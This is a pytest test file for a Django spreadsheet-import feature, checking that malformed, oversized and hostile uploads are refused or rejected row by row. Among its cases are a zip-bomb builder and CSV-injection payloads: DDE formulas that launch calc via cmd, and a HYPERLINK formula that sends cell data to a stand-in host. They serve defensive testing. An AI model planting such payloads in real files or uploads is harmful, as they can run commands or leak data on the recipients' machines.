"""Bad input catalogue for imports: every bad file either is refused as a whole with a message that
says why (and nothing changes), or has its bad rows rejected one by one, each naming its row and
field, while every good row of the same file is stored. No request takes more than a second.

Each case runs twice: through the services (what the `import_data` command and the worker do) and
through the pages a member uses (upload → mapping → dry run → import of the valid rows).
"""

import csv
import io
import time
import zipfile
from dataclasses import dataclass, field

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import Account, Touchpoint
from imports.columns import suggest_mapping
from imports.models import ImportJob
from imports.readers import MAX_COLUMNS, MAX_ROWS, FileError, read_file, read_head
from imports.services import import_sheet
from ui.spreadsheets import write_csv, write_xlsx

pytestmark = pytest.mark.django_db

HEADERS = ["external_id", "name", "arr", "contract_start", "attributes"]
GOOD_1 = ["good-1", "Good One KK", "1,000", "2024-04-01", ""]
GOOD_2 = ["good-2", "Good Two KK", "2000", "2024/4/2", '{"nps": 40}']
STORED = {"Good One KK", "Good Two KK"}
REQUEST_SECONDS = 1.0


def sheet_csv(bad_row, headers=HEADERS, encoding="utf-8"):
    """Row 2 good, row 3 bad, row 4 good."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([headers, GOOD_1, bad_row, GOOD_2])
    return buffer.getvalue().encode(encoding)


def sheet_xlsx(bad_row):
    return write_xlsx(HEADERS, [GOOD_1, bad_row, GOOD_2])


def bad(**cells):
    row = ["bad-1", "Bad KK", "10", "2024-04-03", ""]
    for name, value in cells.items():
        row[HEADERS.index(name)] = value
    return row


def xlsx_with_a_huge_cell(length):
    """openpyxl (like Excel) cuts a cell at 32,767 characters on writing: another program's file is
    made here by replacing a marker in the sheet's XML."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sheet_xlsx(bad(name="HUGE-CELL")))) as source, \
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = source.read(info)
            target.writestr(info, part.replace(b"HUGE-CELL", b"x" * length))
    assert b"HUGE-CELL" not in buffer.getvalue()
    return buffer.getvalue()


def zip_bomb():
    """A real .xlsx plus one part that unpacks to more than the limit (a few hundred kilobytes packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sheet_xlsx(bad()))) as source, \
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            bomb.writestr(info, source.read(info))
        with bomb.open("xl/media/padding.bin", "w", force_zip64=True) as part:
            zeros = b"\0" * (1024 * 1024)
            for _ in range(401):
                part.write(zeros)
    return buffer.getvalue()


def too_many_rows():
    lines = ["external_id,name"] + [f"r-{n},Row {n}" for n in range(MAX_ROWS + 1)]
    return ("\r\n".join(lines) + "\r\n").encode()


@dataclass
class Case:
    data: object  # bytes, or a function that builds them (big files are built only when their case runs)
    filename: str = "book.csv"
    # A file-level problem: the message says why, nothing is written.
    refused: str = ""
    # Row-level problems: {row number: (field, words of the message)}; every other row is stored.
    rejected: dict = field(default_factory=dict)
    stored: set = field(default_factory=lambda: set(STORED))
    mapping: dict | None = None

    def bytes(self):
        return self.data() if callable(self.data) else self.data


CASES = {
    "nul in a header": Case(sheet_csv(bad(), headers=["external_id", "na\0me", "arr", "contract_start", "attributes"]),
                            refused="NUL"),
    "nul in a cell": Case(sheet_csv(bad(name="Bad\0KK")), rejected={3: ("name", "NUL character")}),
    "nul in a JSON cell": Case(sheet_csv(bad(attributes='{"a": "\\u0000"}')), rejected={3: ("attributes", "NUL")}),
    "a 10 MB cell (CSV)": Case(lambda: sheet_csv(bad(name="x" * 10_000_000)),
                               rejected={3: ("name", "10,000,000 characters")}),
    "a 10 MB cell (XLSX)": Case(lambda: xlsx_with_a_huge_cell(10_000_000), filename="book.xlsx",
                                rejected={3: ("name", "10,000,000 characters")}),
    "a 10 MB cell in a column not imported": Case(
        lambda: sheet_csv(bad(attributes="y" * 10_000_000)),
        mapping={0: "external_id", 1: "name"}, stored=STORED | {"Bad KK"}),
    "1e1000000": Case(sheet_csv(bad(arr="1e1000000")), rejected={3: ("arr", "1e1000000")}),
    "a number far too big (XLSX)": Case(sheet_xlsx(bad(arr=1e300)), filename="book.xlsx",
                                        rejected={3: ("arr", "")}),
    "a date that does not exist": Case(sheet_csv(bad(contract_start="2024-02-30")),
                                       rejected={3: ("contract_start", "not a date")}),
    "a date in year 1": Case(sheet_csv(bad(contract_start="0001-01-01")),
                             rejected={3: ("contract_start", "between 1900-01-01 and 2999-12-31")}),
    "a date in year 9999": Case(sheet_csv(bad(contract_start="9999-12-31")),
                                rejected={3: ("contract_start", "between")}),
    "JSON nested thousands deep": Case(sheet_csv(bad(attributes="[" * 20_000)),
                                       rejected={3: ("attributes", "not valid JSON")}),
    "over-long name (max 200)": Case(sheet_csv(bad(name="長" * 201)), rejected={3: ("name", "at most 200")}),
    "over-long external ID (max 100)": Case(sheet_csv(bad(external_id="e" * 101)),
                                            rejected={3: ("external_id", "at most 100")}),
    "UTF-8 with a BOM": Case(b"\xef\xbb\xbf" + sheet_csv(bad()), stored=STORED | {"Bad KK"}),
    "UTF-16 without its BOM": Case(sheet_csv(bad()).decode().encode("utf-16-le"), refused="NUL"),
    "an unknown encoding": Case(b"external_id,name\r\nx-1,Caf\x81\x20\r\n", refused="encoding is not recognised"),
    "an empty file": Case(b"", refused="empty"),
    "a blank header row": Case(b"\r\n\r\nx,y\r\n", refused="empty or its first row"),
    "headers only": Case(",".join(HEADERS).encode() + b"\r\n", refused="no rows"),
    "two columns mapped to one field": Case(sheet_csv(bad(), headers=["name", "name", "arr", "x", "y"]),
                                            mapping={0: "name", 1: "name"}, refused="both mapped"),
    "too many columns": Case(",".join(f"c{n}" for n in range(MAX_COLUMNS + 1)).encode() + b"\r\n1\r\n",
                             refused=f"at most {MAX_COLUMNS} can be imported"),
    "a PNG renamed .csv": Case(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0" + bytes(range(256)) * 4,
                                refused="encoding is not recognised"),
    "a corrupt XLSX": Case(b"PK\x03\x04 not really a zip", filename="book.xlsx", refused="could not be opened"),
    "a text file named .xlsx": Case(sheet_csv(bad()), filename="book.xlsx", refused="could not be opened"),
    "a zip bomb named .xlsx": Case(zip_bomb, filename="book.xlsx", refused="unpacks to more than"),
    "formulas are text": Case(sheet_csv(bad(name="=cmd|' /C calc'!A0")), stored=STORED | {"=cmd|' /C calc'!A0"}),
    "more rows than the limit": Case(too_many_rows, refused=f"more than {MAX_ROWS:,} rows", stored=set()),
}
CASES["Shift_JIS (cp932), as Japanese Excel saves CSV"] = Case(
    "\r\n".join(["顧客ID,会社名,年間契約金額,契約開始日", "good-1,株式会社ソフトバンク,1000,2024年4月1日",
                 "good-2,髙島屋（はしご高）,２０００,2024/4/2", "good-3,①②③ 表示テスト,3000,2024-04-03"])
    .encode("cp932"),
    stored={"株式会社ソフトバンク", "髙島屋（はしご高）", "①②③ 表示テスト"})


def stored_names(ws):
    return set(Account.objects.for_workspace(ws).values_list("name", flat=True))


def check_rejections(case, errors):
    """Every bad row is named with its field and a reason, and no other row is."""
    found = {}
    for error in errors:
        assert error["message"] and error["column"], error
        found.setdefault(error["row"], []).append(error)
    assert set(found) == set(case.rejected), errors
    for row, (field_name, words) in case.rejected.items():
        assert any(e["field"] == field_name and words in e["message"] for e in found[row]), found[row]
        assert all(len(e["message"]) < 400 for e in found[row])  # a reason, never the cell itself


@pytest.mark.parametrize("name", list(CASES))
def test_services(name, ws, manager):
    case = CASES[name]
    data = case.bytes()
    try:
        head = read_head(data, filename=case.filename)
        sheet = read_file(data, filename=case.filename)
    except FileError as exc:
        assert case.refused and case.refused in exc.message, exc.message
        assert not Account.all_workspaces.exists()
        return
    assert head.headers == sheet.headers
    mapping = case.mapping or suggest_mapping("accounts", sheet.headers)
    if not sheet.rows:
        assert case.refused == "no rows"
        return
    result = import_sheet(workspace=ws, actor=manager, object_type="accounts", sheet=sheet, mapping=mapping,
                          commit=True, valid_only=True)
    if case.refused:
        assert any(case.refused in problem for problem in result.mapping_errors), result.mapping_errors
        assert not result.committed and not Account.all_workspaces.exists()
        return
    check_rejections(case, result.errors)
    assert result.committed and stored_names(ws) == case.stored


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def timed(call):
    started = time.monotonic()
    response = call()
    elapsed = time.monotonic() - started
    assert elapsed < REQUEST_SECONDS, f"{elapsed:.2f} s"
    return response


@pytest.mark.parametrize("name", list(CASES))
def test_pages(name, ws, manager, login, media, django_capture_on_commit_callbacks):
    """What a member meets: each step answers within a second; the work itself runs after the
    request (on the worker, or in-process without one: the after-commit callbacks here)."""
    case = CASES[name]
    client = login(manager)
    upload = SimpleUploadedFile(case.filename, case.bytes(), "application/octet-stream")
    response = timed(lambda: client.post(reverse("imports:index"), {"object_type": "accounts", "file": upload}))
    if response.status_code == 400:
        assert case.refused and case.refused in response.content.decode(), response.content.decode()[:2000]
        assert not ImportJob.all_workspaces.exists() and not Account.all_workspaces.exists()
        return
    assert response.status_code == 302, response.content.decode()[:2000]
    job = ImportJob.all_workspaces.get()
    page = timed(lambda: client.get(reverse("imports:map", args=[job.pk])))
    assert page.status_code == 200 and len(page.content) < 200_000  # never a whole 10 MB cell

    mapping = case.mapping or suggest_mapping("accounts", [column["header"] for column in page.context["columns"]])
    form = {f"col_{index}": name for index, name in mapping.items()}
    with django_capture_on_commit_callbacks() as queued:
        response = timed(lambda: client.post(reverse("imports:map", args=[job.pk]), form))
    assert response.status_code == 302
    for callback in queued:  # the worker's part
        callback()
    job.refresh_from_db()
    page = timed(lambda: client.get(reverse("imports:job", args=[job.pk]))).content.decode()
    if case.refused:
        assert job.status in ("failed", "checked")
        assert case.refused in page and not Account.all_workspaces.exists()
        return
    assert job.status == "checked", job.failure
    check_rejections(case, job.errors)
    for row in case.rejected:
        assert f">{row}<" in page  # the row number, in the table of errors

    with django_capture_on_commit_callbacks() as queued:
        timed(lambda: client.post(reverse("imports:job", args=[job.pk]), {"action": "commit_valid_only"}))
    for callback in queued:
        callback()
    job.refresh_from_db()
    assert job.status == "done", job.failure
    assert stored_names(ws) == case.stored


def test_a_touch_in_year_one_is_a_row_error_not_a_failed_job(ws, manager, account):
    """Midnight of 0001-01-01 in Tokyo is before the first instant Python can hold in UTC."""
    data = write_csv(["account_external_id", "occurred_at", "channel"],
                     [[account.external_id, "2024-05-01 10:00", "phone"], [account.external_id, "0001-01-01", "phone"]])
    sheet = read_file(data, filename="t.csv")
    result = import_sheet(workspace=ws, actor=manager, object_type="touchpoints", sheet=sheet,
                          mapping=suggest_mapping("touchpoints", sheet.headers), commit=True, valid_only=True)
    assert [(e["row"], e["field"]) for e in result.errors] == [(3, "occurred_at")]
    assert Touchpoint.objects.for_workspace(ws).count() == 1


FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak="&A1,"Click")']


def test_formulas_are_stored_as_text_and_exported_so_that_no_spreadsheet_runs_them(ws, manager, account, login):
    """CSV injection: what an import stores, the exports (page and API, CSV and XLSX) hand back as text."""
    from openpyxl import load_workbook

    rows = [[f"f-{n}", f"Formula {n}", "", "", "", formula] for n, formula in enumerate(FORMULAS)]
    data = write_csv(["external_id", "name", "arr", "contract_start", "attributes", "plan"], rows)
    sheet = read_file(data, filename="f.csv")
    mapping = {0: "external_id", 1: "name", 5: "plan"}
    result = import_sheet(workspace=ws, actor=manager, object_type="accounts", sheet=sheet, mapping=mapping,
                          commit=True)
    assert result.committed and not result.errors
    client = login(manager)
    for url in (reverse("imports:export", args=["accounts", "csv"]), "/api/v1/exports/accounts.csv"):
        body = client.get(url).content.decode("utf-8-sig")
        exported = {row[1]: row[5] for row in csv.reader(io.StringIO(body))}
        for n, formula in enumerate(FORMULAS):
            assert exported[f"Formula {n}"] == "'" + formula.strip()  # a quote first: text, never a formula
    for url in (reverse("imports:export", args=["accounts", "xlsx"]), "/api/v1/exports/accounts.xlsx"):
        book = load_workbook(io.BytesIO(client.get(url).content))
        cells = {row[1].value: row[5] for row in book.worksheets[0].iter_rows(min_row=2)}
        for n, formula in enumerate(FORMULAS):
            assert cells[f"Formula {n}"].data_type == "s" and cells[f"Formula {n}"].value == formula.strip()
    # And the export imports back as the same text.
    exported = client.get(reverse("imports:export", args=["accounts", "csv"])).content
    again = read_file(exported, filename="a.csv")
    result = import_sheet(workspace=ws, actor=manager, object_type="accounts", sheet=again,
                          mapping=suggest_mapping("accounts", again.headers), commit=True)
    assert result.committed and not result.errors and result.updated == 0
    assert sorted(Account.objects.for_workspace(ws).exclude(plan="").values_list("plan", flat=True)) == sorted(
        formula.strip() for formula in FORMULAS)


def test_a_tab_or_carriage_return_before_a_formula_is_neutralised_too():
    """Stored by another way in (the API keeps a leading tab), exported by every CSV download."""
    body = write_csv(["plan"], [["\t=cmd|' /C calc'!A0"], ["\r=1+1"], ["-5"], ["plain"]]).decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(body))][1:] == ["'\t=cmd|' /C calc'!A0", "'\r=1+1", "-5", "plain"]


def test_the_pages_of_a_big_xlsx_answer_within_a_second(ws, manager, login, media):
    """A sheet of the row limit, written without a <dimension> (as our exports and many programs do):
    upload and mapping read its head only; the dry run, on the worker, reads it all."""
    data = write_xlsx(["external_id", "name", "plan"], ([f"b-{n}", f"Big {n}", "Pro"] for n in range(MAX_ROWS)))
    assert b"<dimension" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")[:2000]
    client = login(manager)
    upload = SimpleUploadedFile("big.xlsx", data, "application/octet-stream")
    response = timed(lambda: client.post(reverse("imports:index"), {"object_type": "accounts", "file": upload}))
    job = ImportJob.all_workspaces.get()
    assert response.url == reverse("imports:map", args=[job.pk])
    page = timed(lambda: client.get(response.url))
    assert "Big 4" in page.content.decode() and page.context["row_count"] is None  # counted by the dry run
